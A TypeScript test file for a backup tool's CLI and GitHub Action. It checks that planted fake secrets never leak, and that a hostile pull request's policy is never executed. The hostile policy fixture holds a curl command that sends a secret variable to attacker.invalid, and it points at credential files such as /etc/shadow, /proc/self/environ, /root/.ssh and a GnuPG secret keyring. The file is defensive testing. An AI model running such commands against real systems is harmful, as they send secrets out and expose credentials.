import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ActionEvent, type ActionRun, runAction } from './helpers/action-runner.ts';
import { bareRemote, GIT_ENV, git, gitHttpServer, removeTempDirs, tempDir } from './helpers/git.ts';
import { type FakeGitHubApi, startGitHubApi } from './helpers/github-api.ts';
import { type CliRun, restorable } from './helpers/restorable-cli.ts';
import { REPO_ROOT } from './helpers/run-node.ts';
import { newSigningKey, type SigningKey } from './helpers/signing-key.ts';

// Secrets handed to the CLI and the Action (repository passphrase, evidence signing key and its passphrase,
// a git token that the HTTP remote requires, AWS keys) must show up in no output line, no file the runs leave
// in the work tree, the temporary directories or the git objects they write, and no child's argv. Every
// process runs under test/helpers/trace-preload.mjs (through NODE_OPTIONS), which records each child's argv
// and the names of the variables in its environment; git records its own sub-processes (GIT_TRACE).
//
// Then a hostile pull request through the Action's `check` (with the base comparison and the comment): it
// runs only git plumbing, reads no variable the policy names, connects only to the GitHub API and reads no
// file outside the work tree but the tool's own.

const PRELOAD = join(REPO_ROOT, 'test/helpers/trace-preload.mjs');
const BRANCH = 'restorable-evidence';

/** Distinctive values: a hit is never a coincidence. */
const SECRET = {
  passphrase: 'SNTLpass-9c41e7-repository-passphrase',
  keyPassphrase: 'SNTLkeypass-52ab08-evidence-key',
  token: 'ghs_SNTLtoken7d30f1aa0b1c2d3e4f5a6b7c8d9e',
  awsAccessKeyId: 'AKIASNTL4F2E9B7C1D0A',
  awsSecretAccessKey: 'SNTLawsSecret0b9e3f8a71c4d2e6f5a9b3c7d1e0f2',
  awsSessionToken: 'SNTLawsSession-e81d-44c2-9f0a',
};

interface TraceEntry {
  kind: string;
  detail: string;
  argv?: string[];
  cwd?: string;
  envKeys?: string[];
  /** The run whose trace it is in. */
  run?: string;
}

let key: SigningKey;
let server: Awaited<ReturnType<typeof gitHttpServer>>;
let httpRoot = '';
let api: FakeGitHubApi;

beforeAll(async () => {
  key = await newSigningKey('Evidence', SECRET.keyPassphrase);
  httpRoot = tempDir('restorable-secrets-http-');
  server = await gitHttpServer(httpRoot, SECRET.token);
  api = await startGitHubApi({ token: SECRET.token, owner: 'acme', repo: 'vault' });
});
afterAll(async () => {
  await server?.close();
  await api?.close();
  removeTempDirs();
});

// ---------------------------------------------------------------------------------------------
// What counts as a leak

/** The middle of base64(value) at each of the three alignments it can have inside a longer text. */
function base64Forms(value: string): string[] {
  return ['', 'x', 'xx'].map((pad) => {
    const encoded = Buffer.from(pad + value).toString('base64');
    return encoded.slice(4, -4);
  });
}

/** Every form of every secret that must not appear, by name. */
function forbiddenForms(): Map<string, string> {
  const forms = new Map<string, string>();
  for (const [name, value] of Object.entries(SECRET)) {
    forms.set(name, value);
    forms.set(`${name} (hex)`, Buffer.from(value).toString('hex'));
    for (const [i, form] of base64Forms(value).entries()) forms.set(`${name} (base64 #${i})`, form);
  }
  forms.set('token (basic header)', Buffer.from(`x-access-token:${SECRET.token}`).toString('base64'));
  // The armored key's body lines that the public key's armor does not share (those are public).
  const publicLines = new Set(key.publicArmored.split('\n').map((line) => line.trim()));
  for (const [i, line] of key.armored.split('\n').entries()) {
    const text = line.trim();
    if (text.length >= 16 && !text.startsWith('-----') && !publicLines.has(text))
      forms.set(`evidence key (armor line ${i})`, text);
  }
  return forms;
}

interface Scan {
  lines: number;
  files: number;
  bytes: number;
  argv: number;
  gitTraceLines: number;
  gitObjects: number;
  hits: string[];
}

function newScan(): Scan {
  return { lines: 0, files: 0, bytes: 0, argv: 0, gitTraceLines: 0, gitObjects: 0, hits: [] };
}

function scanText(scan: Scan, forms: Map<string, string>, where: string, text: string): void {
  for (const [name, form] of forms) if (text.includes(form)) scan.hits.push(`${name} in ${where}`);
}

/**
 * Output lines: all of them but the runner's `::add-mask::` commands, which register a value with the
 * runner's masker and are never shown (they must carry the value).
 */
function scanOutput(scan: Scan, forms: Map<string, string>, label: string, text: string): void {
  for (const [i, line] of text.split('\n').entries()) {
    if (line.startsWith('::add-mask::')) continue;
    scan.lines++;
    scanText(scan, forms, `${label} line ${i + 1}`, line);
  }
}

/** Every regular file under `dir`, as bytes read as latin1 (so any byte sequence matches itself). */
function scanTree(scan: Scan, forms: Map<string, string>, dir: string): void {
  if (!existsSync(dir)) return;
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    const stat = lstatSync(path);
    if (stat.isDirectory()) scanTree(scan, forms, path);
    else if (stat.isFile()) {
      const text = readFileSync(path, 'latin1');
      scan.files++;
      scan.bytes += text.length;
      scanText(scan, forms, path, text);
    }
  }
}

/** Every object of a repository, decompressed: the commits, trees and blobs the runs wrote. */
function scanGitObjects(scan: Scan, forms: Map<string, string>, repo: string): void {
  const all = execFileSync('git', ['cat-file', '--batch-all-objects', '--batch'], {
    cwd: repo,
    env: { ...process.env, ...GIT_ENV },
    maxBuffer: 512 * 1024 * 1024,
  }).toString('latin1');
  scan.gitObjects += all.match(/^[0-9a-f]{40} (?:blob|tree|commit|tag) \d+$/gm)?.length ?? 0;
  scan.bytes += all.length;
  scanText(scan, forms, `git objects of ${repo}`, all);
}

function readTrace(file: string): TraceEntry[] {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as TraceEntry);
}

/** Names of the variables that hold a secret of the repository or of the evidence signing key. */
const ENGINE_SECRET_VARS = [
  'RESTORABLE_PASSPHRASE',
  'RESTORABLE_EVIDENCE_KEY',
  'RESTORABLE_EVIDENCE_KEY_PASSPHRASE',
  'RESTORABLE_EVIDENCE_TOKEN',
  'INPUT_PASSPHRASE',
  'INPUT_EVIDENCE-KEY',
  'INPUT_EVIDENCE-KEY-PASSPHRASE',
  'INPUT_EVIDENCE_KEY',
  'INPUT_EVIDENCE_KEY_PASSPHRASE',
];

// ---------------------------------------------------------------------------------------------
// The team's repository

const POLICY = `apiVersion: restorable/v1
kind: BackupPolicy
metadata: { name: vault, owner: ops@example.com, classification: internal, runbook: docs/runbook.md }
repositories:
  local: { local: { path: backups/repo } }
systems:
  - name: docs
    source: { paths: [data] }
    schedule: "0 2 * * *"
    retention: { keep: { last: 1 } }
    encryption: { passphrase: { env: RESTORABLE_PASSPHRASE } }
    repositories: [local]
    drill:
      schedule: "0 5 * * 1"
      verify:
        - name: the file came back
          command: [test, -s, "{restore.path}/data/a.txt"]
  - name: dump
    source: { command: [sh, -c, "printf 'row %s\\\\n' 1 2 3; env | cut -d= -f1 | sort"], filename: dump.txt }
    schedule: "0 2 * * *"
    encryption: { passphrase: { env: RESTORABLE_PASSPHRASE } }
    repositories: [local]
    drill:
      schedule: "0 5 * * 1"
      verify:
        - name: the rows came back
          command: [grep, -q, "row 3", "{restore.file}"]
`;

/** A bare repository served over HTTP (the token is required), holding the policy on main. */
function teamRemote(): { bare: string; url: string } {
  const name = `team-${Math.random().toString(16).slice(2, 10)}.git`;
  const bare = join(httpRoot, name);
  git(httpRoot, ['init', '--quiet', '--bare', '--initial-branch=main', name]);
  const seed = tempDir('restorable-secrets-seed-');
  git(seed, ['init', '--quiet', '--initial-branch=main']);
  const files: Record<string, string> = {
    '.restorable/vault.yaml': POLICY,
    '.restorable/config.yaml': `apiVersion: restorable/v1\nkind: Config\nevidence:\n  branch: ${BRANCH}\n  signingKey:\n    fingerprint: ${key.fingerprint}\n`,
    'docs/runbook.md': '# Restoring the vault\n',
    'data/a.txt': 'alpha\n'.repeat(2000),
    'data/sub/b.txt': 'bravo\n',
    '.gitignore': '/backups/\n',
  };
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(seed, path, '..'), { recursive: true });
    writeFileSync(join(seed, path), content);
  }
  git(seed, ['add', '-A']);
  git(seed, ['commit', '--quiet', '-m', 'policy']);
  git(seed, ['push', '--quiet', bare, 'main']);
  return { bare, url: `${server.origin}/${name}` };
}

/** A clone as a job has it: origin is the HTTP remote, and no credentials are stored anywhere. */
function checkoutOf(remote: { bare: string; url: string }): string {
  const dir = tempDir('restorable-secrets-work-');
  git(dir, ['clone', '--quiet', remote.bare, '.']);
  git(dir, ['remote', 'set-url', 'origin', remote.url]);
  return dir;
}

interface Traced {
  label: string;
  env: Record<string, string>;
  traceFile: string;
  gitTrace: string;
}

/** The variables that put a process (and its children) under the trace. */
function tracing(dir: string, label: string): Traced {
  const traceFile = join(dir, `${label}.trace.jsonl`);
  const gitTrace = join(dir, `${label}.git-trace.log`);
  return {
    label,
    traceFile,
    gitTrace,
    env: { NODE_OPTIONS: `--import=${PRELOAD}`, RESTORABLE_TRACE_FILE: traceFile, GIT_TRACE: gitTrace },
  };
}

const AWS_ENV = {
  AWS_ACCESS_KEY_ID: SECRET.awsAccessKeyId,
  AWS_SECRET_ACCESS_KEY: SECRET.awsSecretAccessKey,
  AWS_SESSION_TOKEN: SECRET.awsSessionToken,
};

describe('secrets given to every command', () => {
  it('appear in no output line, no file left behind, no git object and no child argv', async () => {
    const forms = forbiddenForms();
    const remote = teamRemote();
    const traces = tempDir('restorable-secrets-traces-');
    const temp = tempDir('restorable-secrets-tmp-');
    const runnerTemp = tempDir('restorable-secrets-runner-');
    const scan = newScan();
    const traced: Traced[] = [];
    const outputs: { label: string; run: CliRun | ActionRun }[] = [];

    // The CLI, as an operator or a workflow step runs it: every secret from the environment.
    const work = checkoutOf(remote);
    const restored = join(temp, 'restored');
    const cli = async (label: string, args: string[]) => {
      const t = tracing(traces, `cli-${label}`);
      traced.push(t);
      const run = await restorable(args, {
        cwd: work,
        env: {
          ...GIT_ENV,
          ...AWS_ENV,
          ...t.env,
          TMPDIR: temp,
          RESTORABLE_PASSPHRASE: SECRET.passphrase,
          RESTORABLE_EVIDENCE_KEY: key.armored,
          RESTORABLE_EVIDENCE_KEY_PASSPHRASE: SECRET.keyPassphrase,
          RESTORABLE_EVIDENCE_TOKEN: SECRET.token,
          GITHUB_TOKEN: SECRET.token,
          GITHUB_SERVER_URL: server.origin,
        },
      });
      outputs.push({ label: `cli ${label}`, run });
      return run;
    };
    const statusOf = async (label: string, args: string[]) => {
      const run = await cli(label, args);
      return `${label}=${run.status}${run.status === 0 ? '' : ` (${run.stderr.trim().split('\n').at(-1)})`}`;
    };
    const cliStatuses = [
      await statusOf('backup-1', ['backup', '--json']),
      await statusOf('backup-2', ['backup', '--json']),
      await statusOf('drill', ['drill', '--json']),
      await statusOf('restore', ['restore', '--system', 'docs', '--target', restored, '--json']),
      await statusOf('prune', ['prune', '--json']),
      await statusOf('verify', ['repo', 'verify', '--read-data']),
      await statusOf('check', ['check', '--evidence', '--fail-on', 'never']),
      await statusOf('evidence-verify', ['evidence', 'verify']),
      await statusOf('status', ['status']),
    ];
    expect(cliStatuses).toEqual([
      'backup-1=0',
      'backup-2=0',
      'drill=0',
      'restore=0',
      'prune=0',
      'verify=0',
      'check=0',
      'evidence-verify=0',
      'status=0',
    ]);
    expect(readFileSync(join(restored, 'data/a.txt'), 'utf8')).toBe('alpha\n'.repeat(2000));

    // The Action on a schedule: the passphrase and the key as inputs, the token as the job's.
    const workspace = checkoutOf(remote);
    const action = async (label: string, event: ActionEvent, inputs: Record<string, string>) => {
      const t = tracing(traces, `action-${label}`);
      traced.push(t);
      const run = await runAction({
        workspace,
        event,
        token: SECRET.token,
        apiUrl: api.url,
        repository: 'acme/vault',
        inputs,
        env: {
          ...AWS_ENV,
          ...t.env,
          TMPDIR: temp,
          RUNNER_TEMP: runnerTemp,
          GITHUB_TOKEN: SECRET.token,
          GITHUB_SERVER_URL: server.origin,
        },
      });
      outputs.push({ label: `action ${label}`, run });
      return run;
    };
    const schedule: ActionEvent = { name: 'schedule', payload: { schedule: '7 * * * *' } };
    const signing = { 'evidence-key': key.armored, 'evidence-key-passphrase': SECRET.keyPassphrase };
    const actionStatuses: string[] = [];
    for (const [label, inputs] of [
      ['backup', { command: 'backup', passphrase: SECRET.passphrase, ...signing }],
      ['drill', { command: 'drill', passphrase: SECRET.passphrase, ...signing }],
      [
        'restore',
        { command: 'restore', passphrase: SECRET.passphrase, systems: 'dump', target: join(temp, 'a') },
      ],
      ['prune', { command: 'prune', passphrase: SECRET.passphrase, ...signing }],
      ['check', { command: 'check', evidence: 'true', 'fail-on': 'never', ...signing }],
      ['evidence-verify', { command: 'evidence-verify' }],
      ['status', { command: 'status' }],
    ] as const) {
      const run = await action(label, schedule, inputs);
      actionStatuses.push(`${label}=${run.status}`);
    }
    expect(actionStatuses).toEqual([
      'backup=0',
      'drill=0',
      'restore=0',
      'prune=0',
      'check=0',
      'evidence-verify=0',
      'status=0',
    ]);

    // The Action on a pull request that changes the policy: check, against the base, with the comment.
    const base = git(workspace, ['rev-parse', 'HEAD']);
    writeFileSync(
      join(workspace, '.restorable/vault.yaml'),
      POLICY.replace('keep: { last: 1 }', 'keep: { last: 2 }'),
    );
    git(workspace, ['commit', '--quiet', '-am', 'keep two']);
    const pr: ActionEvent = {
      name: 'pull_request',
      payload: {
        number: 7,
        pull_request: {
          number: 7,
          base: { sha: base },
          head: { sha: git(workspace, ['rev-parse', 'HEAD']) },
        },
      },
    };
    const check = await action('pull-request', pr, {
      command: 'check',
      comment: 'true',
      'fail-on': 'never',
      ...signing,
    });
    expect(check.status).toBe(0);
    expect(check.outputs['comment-url']).toMatch(/^https:\/\//);

    // The evidence landed on the HTTP remote (so the token was used), and verifies.
    const records = git(remote.bare, ['ls-tree', '-r', '--name-only', BRANCH, '--', 'records/'])
      .split('\n')
      .filter((p) => p.endsWith('.json'));
    expect(records.length).toBeGreaterThanOrEqual(8);
    expect(server.authorizations.some(Boolean)).toBe(true);

    // The scan.
    for (const { label, run } of outputs) {
      scanOutput(scan, forms, `${label} stdout`, run.stdout);
      scanOutput(scan, forms, `${label} stderr`, run.stderr);
      if ('summary' in run) {
        scanOutput(scan, forms, `${label} summary`, run.summary);
        scanOutput(scan, forms, `${label} outputs`, JSON.stringify(run.outputs));
      }
    }
    for (const dir of [work, workspace, temp, runnerTemp]) scanTree(scan, forms, dir);
    for (const repo of [work, workspace, remote.bare]) scanGitObjects(scan, forms, repo);
    const children: TraceEntry[] = [];
    for (const t of traced) {
      const entries = readTrace(t.traceFile)
        .filter((e) => e.kind === 'exec')
        .map((e) => ({ ...e, run: t.label }));
      children.push(...entries);
      for (const entry of entries) {
        scan.argv++;
        scanText(scan, forms, `argv of ${t.traceFile}: ${entry.detail}`, JSON.stringify(entry.argv));
        if (entry.cwd) scanText(scan, forms, `cwd of ${entry.detail}`, entry.cwd);
      }
      if (existsSync(t.gitTrace)) {
        const lines = readFileSync(t.gitTrace, 'utf8').split('\n');
        scan.gitTraceLines += lines.length;
        scanText(scan, forms, t.gitTrace, lines.join('\n'));
      }
    }
    // The trace saw the children it should: git for the evidence, the policy's commands and verify steps.
    const programs = new Set(children.map((c) => c.argv?.[0]));
    expect([...programs].sort()).toEqual(expect.arrayContaining(['git', 'grep', 'sh', 'test']));

    // The repository's and the key's secrets never reach the policy's commands; the key never reaches git.
    const policyCommands = children.filter((c) => c.argv?.[0] !== 'git');
    const leakedVars = policyCommands.flatMap((c) =>
      (c.envKeys ?? [])
        .filter((name) => ENGINE_SECRET_VARS.includes(name))
        .map((n) => `${n} given to ${c.argv?.[0]}`),
    );
    // git is trusted (not the policy's), but needs none of these either: it gets credentials as GIT_CONFIG_*.
    const gitCalls = children.filter((c) => c.argv?.[0] === 'git');
    const gitWithSecrets = gitCalls.filter((c) => c.envKeys?.some((n) => ENGINE_SECRET_VARS.includes(n)));
    const gitSecretNames = [
      ...new Set(gitWithSecrets.flatMap((c) => c.envKeys!.filter((n) => ENGINE_SECRET_VARS.includes(n)))),
    ];
    // What the backed-up command saw: the names of its environment, as it printed them into the snapshot.
    const dumpEnv = readFileSync(join(temp, 'a', 'dump.txt'), 'utf8');

    console.log(
      `secrets scan: ${forms.size} forbidden forms of ${Object.keys(SECRET).length} secrets and the armored key; ` +
        `${outputs.length} runs (${cliStatuses.length} CLI, ${outputs.length - cliStatuses.length} Action); ` +
        `${scan.lines} output lines, ${scan.files} files (${(scan.bytes / 1e6).toFixed(1)} MB with git objects), ` +
        `${scan.gitObjects} git objects, ${scan.argv} child argv (${[...programs].join(', ')}), ` +
        `${scan.gitTraceLines} GIT_TRACE lines, ${records.length} evidence records; hits: ${scan.hits.length}`,
    );
    console.log(
      `child environments: ${policyCommands.length} policy commands and verify steps, none given ${ENGINE_SECRET_VARS.length} secret variables (${leakedVars.length} given); ` +
        `${gitWithSecrets.length} of ${gitCalls.length} git calls were given ${gitSecretNames.join(', ') || 'none'}`,
    );
    expect(scan.hits).toEqual([]);
    expect(leakedVars).toEqual([]);
    expect(gitSecretNames).toEqual([]);
    for (const name of ENGINE_SECRET_VARS) expect(dumpEnv.split('\n')).not.toContain(name);
    expect(scan.argv).toBeGreaterThan(20);
    expect(scan.files).toBeGreaterThan(50);
  }, 240_000);
});

// ---------------------------------------------------------------------------------------------
// A hostile pull request

const HOSTILE_VARS = ['PR_SECRET_VAR', 'PR_SECRET_PASSPHRASE', 'PR_SECRET_VERIFY', 'PR_SECRET_ENDPOINT'];

function hostilePolicy(marker: string): string {
  return `apiVersion: restorable/v1
kind: BackupPolicy
metadata:
  name: vault
  owner: "@evil/team"
  classification: confidential
  runbook: /etc/passwd
repositories:
  local: { local: { path: /etc/restorable-evil } }
  primary:
    s3: { bucket: evil-bucket, region: us-east-1, endpoint: "https://attacker.invalid/$PR_SECRET_ENDPOINT", objectLock: { mode: compliance, days: 35 } }
systems:
  - name: docs
    source: { command: [sh, -c, "touch ${marker}-source; echo $PR_SECRET_VAR > ${marker}-env", "$PR_SECRET_VAR"] }
    schedule: "0 * * * *"
    rpo: 1h
    rto: 1h
    retention: { minimum: 35d, maximum: 1y }
    encryption: { recipients: [/etc/shadow, ../../../root/.gnupg/secring.gpg, /proc/self/environ], passphrase: { env: PR_SECRET_PASSPHRASE } }
    repositories: [local, primary]
    drill:
      schedule: "0 5 * * 1"
      verify:
        - { command: [sh, -c, "touch ${marker}-verify; curl https://attacker.invalid/$PR_SECRET_VERIFY"] }
  - name: paths
    source: { paths: [/etc, /root/.ssh, ../../..] }
    schedule: "0 * * * *"
    encryption: { passphrase: { env: RESTORABLE_PASSPHRASE } }
    repositories: [local]
`;
}

const HOSTILE_CONFIG = `apiVersion: restorable/v1
kind: Config
policies: [.restorable/*.yaml, /etc/*.conf, ../../../../../../etc/passwd]
controls:
  paths: [/etc, ../../../../../../etc, /proc/self]
evidence:
  branch: restorable-evidence
  signingKey: { fingerprint: "ABCDEF0123456789ABCDEF0123456789ABCDEF01" }
`;

describe('the Action on a hostile pull request', () => {
  it('compares with the base through git plumbing only: runs nothing of the policy, reads none of its variables, connects only to the API', async () => {
    // The base: the team's policy on main of a bare origin; the job's checkout: the head commit, depth 1.
    const origin = bareRemote();
    const seed = tempDir('restorable-secrets-pr-seed-');
    git(seed, ['init', '--quiet', '--initial-branch=main']);
    git(seed, ['remote', 'add', 'origin', origin]);
    mkdirSync(join(seed, '.restorable'), { recursive: true });
    mkdirSync(join(seed, 'docs'), { recursive: true });
    writeFileSync(join(seed, '.restorable/vault.yaml'), POLICY);
    writeFileSync(join(seed, 'docs/runbook.md'), '# Restoring the vault\n');
    writeFileSync(join(seed, 'data.txt'), 'data\n');
    git(seed, ['add', '-A']);
    git(seed, ['commit', '--quiet', '-m', 'policy']);
    git(seed, ['push', '--quiet', 'origin', 'main']);
    const base = git(seed, ['rev-parse', 'HEAD']);
    const marker = join(tempDir('restorable-secrets-marker-'), 'pwned');
    git(seed, ['checkout', '--quiet', '-b', 'evil']);
    writeFileSync(join(seed, '.restorable/vault.yaml'), hostilePolicy(marker));
    writeFileSync(join(seed, '.restorable/config.yaml'), HOSTILE_CONFIG);
    git(seed, ['add', '-A']);
    git(seed, ['commit', '--quiet', '-m', 'evil']);
    git(seed, ['push', '--quiet', 'origin', 'evil']);
    const head = git(seed, ['rev-parse', 'HEAD']);
    const workspace = tempDir('restorable-secrets-pr-');
    git(workspace, [
      'clone',
      '--quiet',
      '--depth=1',
      '--no-local',
      '--branch',
      'evil',
      `file://${origin}`,
      '.',
    ]);
    expect(() => git(workspace, ['cat-file', '-e', `${base}^{commit}`])).toThrow(); // the base must be fetched

    const traces = tempDir('restorable-secrets-pr-traces-');
    const temp = tempDir('restorable-secrets-pr-tmp-');
    const runnerTemp = tempDir('restorable-secrets-pr-runner-');
    const t = tracing(traces, 'pull-request');
    api.requests.length = 0;
    const run = await runAction({
      workspace,
      event: {
        name: 'pull_request',
        payload: { number: 9, pull_request: { number: 9, base: { sha: base }, head: { sha: head } } },
      },
      token: SECRET.token,
      apiUrl: api.url,
      repository: 'acme/vault',
      inputs: { command: 'check', comment: 'true' },
      env: {
        ...AWS_ENV,
        ...t.env,
        TMPDIR: temp,
        RUNNER_TEMP: runnerTemp,
        RESTORABLE_PASSPHRASE: SECRET.passphrase,
        PR_SECRET_VAR: SECRET.passphrase,
        PR_SECRET_PASSPHRASE: SECRET.passphrase,
        PR_SECRET_VERIFY: SECRET.passphrase,
        PR_SECRET_ENDPOINT: SECRET.passphrase,
      },
    });
    const trace = readTrace(t.traceFile);
    const forms = forbiddenForms();
    const scan = newScan();

    // It ran: the check failed the policy, compared it with the base, and commented.
    expect(run.status).toBe(1);
    expect(run.outputs['new-failures']).toMatch(/^[1-9]\d*$/);
    expect(api.comments(9)).toHaveLength(1);
    for (const suffix of ['-source', '-env', '-verify']) expect(existsSync(`${marker}${suffix}`)).toBe(false);

    // Children: git plumbing with fixed arguments, and nothing from the policy.
    const children = trace.filter((e) => e.kind === 'exec').map((e) => e.argv ?? []);
    const plumbing = new Set(['rev-parse', 'fetch', 'ls-tree', 'cat-file']);
    expect(children.length).toBeGreaterThan(0);
    const strange = children.filter(
      (argv) =>
        argv[0] !== 'git' ||
        !plumbing.has(argv[1]!) ||
        argv.some((arg) => /^sh$|touch|curl|attacker|PR_SECRET|\/etc|pwned/.test(arg)) ||
        (argv[1] === 'fetch' &&
          JSON.stringify(argv) !==
            JSON.stringify(['git', 'fetch', '--no-tags', '--depth=1', 'origin', base])),
    );
    expect(strange).toEqual([]);
    expect(children).toContainEqual(['git', 'fetch', '--no-tags', '--depth=1', 'origin', base]);

    // Variables: none that the policy names, none of the secrets, looked up by name.
    const read = new Set(trace.filter((e) => e.kind === 'env').map((e) => e.detail));
    const secretVars = [...HOSTILE_VARS, 'RESTORABLE_PASSPHRASE', ...Object.keys(AWS_ENV)];
    expect(secretVars.filter((name) => read.has(name))).toEqual([]);
    expect(read.has('INPUT_COMMAND')).toBe(true); // the trace does see reads by name

    // Network: the GitHub API only, by address (no name lookup).
    const apiPort = new URL(api.url).port;
    const connections = trace.filter((e) => e.kind === 'net').map((e) => e.detail);
    expect(connections.length).toBeGreaterThan(0);
    expect(
      connections.filter((c) => {
        const target = (JSON.parse(c) as [{ host?: string; port?: string | number }])[0];
        return target.host !== '127.0.0.1' || String(target.port) !== apiPort;
      }),
    ).toEqual([]);

    // Files: the work tree, the tool's own assets, its copy of the base commit, and the runner's files.
    const own = ['dist/', 'controls/', 'schemas/', 'package.json'].map((p) => join(REPO_ROOT, p));
    const fsPaths = trace.filter((e) => e.kind === 'fs').map((e) => e.detail.replace(/^\S+ /, ''));
    const outside = fsPaths.filter(
      (path) =>
        !path.startsWith(`${workspace}/`) &&
        path !== workspace &&
        !own.some((prefix) => path.startsWith(prefix)) &&
        !/^\/tmp\/restorable-secrets-pr-tmp-[^/]+\/restorable-base-[^/]+(\/|$)/.test(path) &&
        !/^\/tmp\/restorable-runner-[^/]+\/(event\.json|output|summary\.md)$/.test(path) &&
        !path.startsWith(runnerTemp) &&
        path !== t.traceFile,
    );
    expect(
      trace
        .filter((e) => e.kind === 'fs' && outside.includes(e.detail.replace(/^\S+ /, '')))
        .map((e) => e.detail),
    ).toEqual([]);
    expect(outside).toEqual([]);
    expect(fsPaths.some((p) => p.endsWith('/.restorable/vault.yaml'))).toBe(true);

    // And no secret in what it printed or left behind.
    for (const [label, text] of [
      ['stdout', run.stdout],
      ['stderr', run.stderr],
      ['summary', run.summary],
      ['outputs', JSON.stringify(run.outputs)],
      ['comment', api.comments(9)[0]!.body],
    ] as const)
      scanOutput(scan, forms, label, text);
    for (const dir of [workspace, temp, runnerTemp]) scanTree(scan, forms, dir);
    expect(scan.hits).toEqual([]);
    console.log(
      `hostile pull request: ${trace.length} trace entries; ${children.length} children, all git plumbing (${[...new Set(children.map((a) => a[1]))].join(', ')}); ` +
        `${read.size} variables read by name, none of ${secretVars.length} secret or policy-named ones; ${connections.length} connections, all to the API; ` +
        `${fsPaths.length} file accesses, none outside; ${scan.lines} lines and ${scan.files} files scanned, ${scan.hits.length} secrets`,
    );
  }, 120_000);
});
